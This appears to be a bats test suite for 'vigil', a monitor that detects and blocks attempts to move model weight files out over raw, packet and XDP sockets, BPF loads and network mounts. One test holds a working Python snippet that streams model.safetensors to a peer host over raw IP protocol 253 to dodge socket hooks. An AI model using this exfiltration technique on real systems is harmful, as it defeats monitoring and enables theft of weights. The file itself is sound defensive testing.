#!/usr/bin/env bats
# Blind spots the kernel lets vigil close (docs/OPERATIONS.md, "Blind-spot
# controls"): raw IP sockets, whose packets no connect/sendmsg hook sees,
# are refused to tainted processes in enforce mode and reported in both.

load ../lib/harness

setup() { vigil_setup; }
teardown() { vigil_teardown; }

# raw_socket FILE: read FILE (or nothing), then try a raw ICMP socket;
# prints ok or the errno name
raw_socket() {
	run in_cg python3 -c '
import errno, socket, sys
if sys.argv[1]:
    open(sys.argv[1], "rb").read()
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    print("ok")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))' "$1"
}

@test "blind spot: enforce refuses a raw socket to a tainted process, not to others; it is reported" {
	start_agent --mode enforce
	raw_socket ""
	[ "$output" = ok ]
	raw_socket "$W/model.safetensors"
	[ "$output" = EPERM ]
	run alert_wait --timeout 5 rule=weights-raw-socket action=blocked network.protocol=raw
	[ "$status" -eq 0 ]
	[[ "$(alert_get message network.protocol=raw)" == *"was refused a raw ipv4 socket"* ]]
	stop_agent
	[ "$(alert_get kernel.connects_denied kind=agent_stop)" -ge 1 ]
}

@test "blind spot: monitor lets the raw socket be made and says enforce would refuse it" {
	start_agent
	raw_socket "$W/model.safetensors"
	[ "$output" = ok ]
	run alert_wait --timeout 5 rule=weights-raw-socket network.protocol=raw enforce_action=blocked
	[ "$status" -eq 0 ]
	[[ "$(alert_get message network.protocol=raw)" == *"opened a raw ipv4 socket"* ]]
}

@test "blind spot: monitor: the weights sent over a raw IP socket are counted on the sender's taint and pass the budget alerted" {
	start_agent
	# IP protocol 253 (experimental): no port, no connect, no sendmsg hook
	run in_cg python3 -c '
import socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
for i in range(0, len(data), 1400):
    s.sendto(data[i:i + 1400], (sys.argv[2], 0))
print("sent", len(data))' "$W/model.safetensors" "$PEER4"
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-raw-socket network.protocol=raw enforce_action=blocked
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-egress-budget network.daddr="$PEER4" \
		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
	[ "$status" -eq 0 ]
	stop_agent
}

# control ARGS...: tests/scenarios/control.py in the test cgroup ($status, $output)
control() {
	run in_cg python3 "$CONTROL" "$@"
}

@test "blind spot: packet and AF_XDP sockets, BPF loads, network and FUSE mounts of untainted processes are reported" {
	require_capability control
	start_agent
	# one process each: one rule on one process is one incident (repeats fold)
	for what in packet xdp bpf mount-nfs mount-fuse fsopen-fuse mount-tmpfs; do
		control "$what"
		[ "$status" -eq 0 ]
		out="$out $output"
	done
	[[ "$out" == *"packet ok"* && "$out" == *"xdp ok"* && "$out" == *"bpf ok"* ]]
	[[ "$out" == *"mount-nfs ENOENT"* && "$out" == *"fsopen-fuse EINVAL"* ]]
	run alert_wait --timeout 5 rule=packet-socket control.kind=packet_socket control.detail=raw \
		control.tainted=false severity=medium action=alert
	[ "$status" -eq 0 ]
	[[ "$(alert_get message control.kind=packet_socket)" == *"tried to open a packet socket (raw)"* ]]
	run alert_wait --timeout 5 rule=packet-socket control.kind=xdp_socket
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=bpf-program-load control.detail=socket_filter
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=fuse.sshfs
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=fuse
	[ "$status" -eq 0 ]
	# a local filesystem is not a control; nothing here was tainted or killed
	run alert_none control.detail=tmpfs
	[ "$status" -eq 0 ]
	run alert_none rule=weights-bypass-attempt
	[ "$status" -eq 0 ]
	# attempts outside the scope are not this agent's
	python3 "$CONTROL" packet
	stop_agent
	[ "$(grep -c '"kind":"packet_socket"' "$ALERTS")" -eq 1 ]
}

@test "blind spot: enforce kills a tainted process opening a packet socket or loading BPF, before it can use them" {
	require_capability control
	start_agent --mode enforce
	control --read "$W/model.safetensors" packet xdp
	[ "$status" -eq 137 ]
	[[ "$output" != *"packet ok"* || "$output" != *"xdp ok"* ]]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=packet_socket \
		action=killed killed_by=kernel control.tainted=true severity=critical
	[ "$status" -eq 0 ]
	[ "$(alert_get taint.sources.0.path rule=weights-bypass-attempt)" = "$W/model.safetensors" ]
	[[ "$(alert_get message rule=weights-bypass-attempt)" == *"holding data from $W/model.safetensors, tried to open a packet socket (raw) and was killed"* ]]
	control --read "$W/model.safetensors" bpf
	[ "$status" -eq 137 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=bpf_load action=killed
	[ "$status" -eq 0 ]
	# untainted: reported, never killed
	control packet
	[ "$status" -eq 0 ]
	[ "$output" = "packet ok" ]
	run alert_wait --timeout 5 rule=packet-socket action=alert
	[ "$status" -eq 0 ]
	stop_agent
	[ "$(alert_get kernel.kills kind=agent_stop)" -ge 2 ]
}

@test "blind spot: monitor lets a tainted process open a packet socket and says enforce would kill it" {
	require_capability control
	start_agent
	control --read "$W/model.safetensors" packet
	[ "$status" -eq 0 ]
	[ "$output" = "packet ok" ]
	control --read "$W/model.safetensors" mount-nfs
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=packet_socket action=alert \
		enforce_action=killed
	[ "$status" -eq 0 ]
	[[ "$(alert_get message control.kind=packet_socket)" == *"; enforce mode would kill it"* ]]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=mount control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_none rule=packet-socket
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: a rule on control fields decides (a site flags FUSE mounts by type, excepts a packet tool)" {
	require_capability control
	cat > "$T/site.yaml" <<-'YAML'
	list:
	  - name: packet_socket_tools
	    items: [python3]
	    append: true
	rule:
	  - id: site-fuse
	    condition: evt.type = control and control.kind = mount and control.detail startswith fuse.
	    severity: high
	    message: "%proc.name tried a %control.detail mount (tainted: %proc.tainted)"
	YAML
	start_agent --rules "$T/site.yaml"
	control packet
	control mount-fuse
	control mount-nfs
	run alert_wait --timeout 5 rule=site-fuse severity=high
	[ "$status" -eq 0 ]
	[ "$(alert_get message rule=site-fuse)" = "python3 tried a fuse.sshfs mount (tainted: false)" ]
	run alert_none rule=site-fuse control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_none rule=packet-socket
	[ "$status" -eq 0 ]
	stop_agent
}

# Kernel modules: only on kernels built with them (this host's 6.18 has
# none, Debian's have; the 6.1 leg runs it)
@test "blind spot: module loads (init_module, finit_module) are reported, the file named" {
	require_capability control
	[ -d /sys/kernel/tracing/events/syscalls/sys_enter_finit_module ] ||
		skip "kernel without loadable modules (no finit_module tracepoint)"
	start_agent
	control init_module
	control finit_module
	run alert_wait --timeout 5 rule=kernel-module-load control.detail=
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=kernel-module-load "control.detail~vigil_control_"
	[ "$status" -eq 0 ]
	stop_agent
}
